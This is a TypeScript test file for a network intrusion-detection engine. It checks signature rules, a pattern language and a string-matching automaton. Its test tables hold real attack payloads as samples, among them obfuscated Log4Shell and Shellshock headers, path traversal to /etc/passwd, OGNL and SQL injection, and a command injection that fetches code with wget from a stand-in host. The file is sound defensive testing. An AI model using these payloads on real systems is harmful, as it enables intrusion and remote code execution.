// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4j's look-ups
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { numbers } from '#codec/testing.ts'
import { writtenRules } from '../../../docs/generate/payload-rules.ts'
import { protocolOf } from '../identify.ts'
import { httpTexts, requestText, sightings, textsOf } from '../sightings.ts'
import { clientSamples } from '../testing-samples.ts'
import { automatonOf } from './automaton.ts'
import { compile, type Rule } from './recognise.ts'

const seenIn = (bytes: Buffer, port?: number) => {
  const protocol = protocolOf(bytes, port)?.protocol
  return sightings(textsOf(bytes, protocol), { ...(protocol ? { protocol } : {}), ...(port ? { port } : {}) })
}

test('every rule sees its sample', () => {
  const unseen = writtenRules().flatMap(({ id, sample, ports }) => {
    const found = seenIn(Buffer.from(sample, 'latin1'), ports?.[0]).map(sighting => sighting.id)
    return found.includes(id) ? [] : [`${id}: ${found.join(' ')}`]
  })
  assert.deepEqual(unseen, [])
})

test('there are many, of every kind', () => {
  const rules = writtenRules()
  assert.ok(rules.length >= 120, `${rules.length}`)
  assert.equal(new Set(rules.map(({ kind }) => kind)).size, 6)
})

test('an ordinary request, and the first words of honest clients, are no attack', () => {
  const visits = [
    'GET / HTTP/1.1\r\nHost: www.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nReferer: https://www.example/search?q=curl\r\nCookie: a=b; c=d\r\n\r\n',
    'POST /login HTTP/1.1\r\nHost: www.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=anna&password=x%26y&remember=1',
    'GET /union-station?select=2&or=1 HTTP/1.1\r\nHost: www.example\r\n\r\n',
    'POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"method":"list","page":2,"sleep":"8 hours"}',
    'GET /docs/shell/script/readme.txt HTTP/1.1\r\n\r\n',
  ]
  for (const visit of visits) assert.deepEqual(seenIn(Buffer.from(visit, 'latin1')), [], visit)
  const honest = new Set('tls http2 vnc x11 mysql postgresql mqtt amqp kafka git dns xmpp opcua ident'.split(' '))
  for (const { protocol, bytes } of clientSamples)
    if (honest.has(protocol) && !bytes.includes('version')) assert.deepEqual(seenIn(bytes), [], protocol)
})

test('sees through what attackers write to be overlooked', () => {
  const table: [id: string, where: 'url' | 'headers' | 'body', text: string][] = [
    ['CVE-2021-44228', 'headers', 'User-Agent: ${${lower:j}${::-n}${env:X:-d}i:rmi://192.0.2.1/a}'],
    ['CVE-2014-6271', 'headers', 'User-Agent: () { :; }; /bin/bash -c "id"'],
    ['CVE-2021-41773', 'url', '/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd'],
    ['CVE-2022-26134', 'url', '/%24%7B%28%23a%3D%40org.apache%29%7D/'],
    ['CVE-2017-5638', 'headers', "Content-Type: %{(#nike='multipart/form-data')}"],
    ['CVE-2024-3400', 'headers', 'Cookie: SESSID=/../../../opt/panlogs/x'],
    ['COMMAND-INJECTION', 'body', 'dest_host=``;wget http://192.0.2.1/x'],
    ['SQL-INJECTION', 'url', "/?id=1' or '1'='1"],
    ['SQL-INJECTION', 'url', '/?id=1+union+/**/+all+select+1'],
  ]
  for (const [id, where, text] of table) {
    const found = sightings(
      httpTexts(
        requestText(where === 'url' ? text : '', where === 'headers' ? text : '', where === 'body' ? text : ''),
      ),
    )
    assert.ok(
      found.some(sighting => sighting.id === id),
      `${text}: ${JSON.stringify(found)}`,
    )
  }
})

const rule = (id: string, match: Rule['match'], rest: Partial<Rule> = {}): Rule => ({
  id,
  name: `Rule ${id}`,
  kind: 'exploit',
  where: 'any',
  match,
  ...rest,
})
const sees = (pattern: string, text: string) =>
  compile([rule('A', [[pattern]])])({ raw: Buffer.from(text, 'latin1') }).length === 1

test('patterns say what they mean', () => {
  const table: [pattern: string, seen: string[], unseen: string[]][] = [
    ['wget', ['a WGET b', 'wget'], ['wge t', '']],
    ['{x:474554}', ['GET'], ['get']],
    ['ab{d}cd', ['xab7cd'], ['abcd', 'abxcd']],
    ['{^}GET', ['GET /'], [' GET /']],
    ['bye{$}', ['good bye'], ['bye!']],
    ['ab{..3}cd', ['abcd', 'abxyzcd', 'ab ab cd'], ['abwxyzcd', 'cdab']],
    ['ab{s*}cd', ['abcd', 'ab \t+cd'], ['ab-cd']],
    ['{sep}{s*}wget{s}', [';wget x', '| \twget x', '`wget x'], ['wget x', 'awget x', ';x wget x', ';wget']],
    ['() {s*}{{}{..9}{}};', ['() {x};', '() {};'], ['() {0123456789};']],
    ['aa{..5}a{d}{..5}bb', ['aa a1 bb', 'aaxa2bb'], ['aa a bb', 'aa1bb']],
    ['one{line}two{line}three', ['one two three', 'one one two two three'], ['one two\nthree', 'two one three']],
    ['{nl}host: {w*}{s}', ['\nHost: abc '], ['Host: abc ']],
    ['aba', ['ababa'], ['abba']],
    ['ab{any3}cd', ['ab123cd'], ['ab12cd', 'ab1234cd']],
  ]
  for (const [pattern, seen, unseen] of table) {
    for (const text of seen) assert.ok(sees(pattern, text), `${pattern} in ${text}`)
    for (const text of unseen) assert.ok(!sees(pattern, text), `${pattern} not in ${text}`)
  }
  for (const wrong of ['a', '{d}{d}', '{nope}x', 'ab{', 'ab{x:1}', '{..}', '${jndi:'])
    assert.throws(() => compile([rule('A', [[wrong]])]), wrong)
})

test('an alternative wants all of its patterns, in any order; a rule its place, its port and its protocol', () => {
  const look = compile([
    rule('BOTH', [['first', 'second'], ['third']]),
    rule('URL', [['here']], { where: 'url' }),
    rule('PORT', [['there']], { ports: [80] }),
    rule('REDIS', [['word']], { protocol: 'redis' }),
  ])
  const ids = (text: string, about = {}) => look({ raw: Buffer.from(text) }, about).map(({ id }) => id)
  assert.deepEqual(ids('second first'), ['BOTH'])
  assert.deepEqual(ids('second second'), [])
  assert.deepEqual(ids('third'), ['BOTH'])
  assert.deepEqual(ids('here'), [])
  assert.deepEqual(
    look({ url: Buffer.from('/here'), body: Buffer.from('here') }).map(({ evidence }) => evidence),
    ['here'],
  )
  assert.deepEqual([ids('there', { port: 80 }), ids('there', { port: 81 }), ids('there')], [['PORT'], [], ['PORT']])
  assert.deepEqual([ids('word', { protocol: 'redis' }), ids('word')], [['REDIS'], []])
})

test('evidence begins where the pattern does', () => {
  const look = compile([rule('A', [['{sep}{s*}wget{..20}chmod']])])
  assert.equal(look({ raw: Buffer.from('x=1; wget http://h/a chmod') })[0]?.evidence, '; wget http://h/a chmod')
})

test('the automaton finds what a search for each literal finds', () => {
  const draw = numbers(9)
  const word = (letters: number, length: number) =>
    Buffer.from(Array.from({ length: 1 + draw(length) }, () => 97 + draw(letters)))
  for (let n = 0; n < 300; n++) {
    const literals = Array.from({ length: 1 + draw(8) }, () => word(3, 4))
    const text = Buffer.from(
      word(3, 60)
        .toString()
        .replace(/a/g, draw(2) ? 'A' : 'a'),
    )
    const found = new Set<string>()
    automatonOf(literals).scan(text, (which, end) => found.add(`${which}:${end}`))
    const expected = new Set<string>()
    const low = text.toString().toLowerCase()
    literals.forEach((literal, which) => {
      for (let at = low.indexOf(literal.toString()); at >= 0; at = low.indexOf(literal.toString(), at + 1))
        expected.add(`${which}:${at + literal.length}`)
    })
    assert.deepEqual(found, expected)
  }
})

test('hostile repetition costs no more than it is long', () => {
  for (const piece of [
    '${',
    '() {',
    '../',
    "' or ",
    'union+',
    '%25',
    '${lower:',
    ';wget ',
    '&&',
    'exec(',
    '/dev/tcp/',
    'one two ',
  ])
    sightings(httpTexts(requestText(piece.repeat(10_000), piece.repeat(10_000), piece.repeat(10_000))))
})
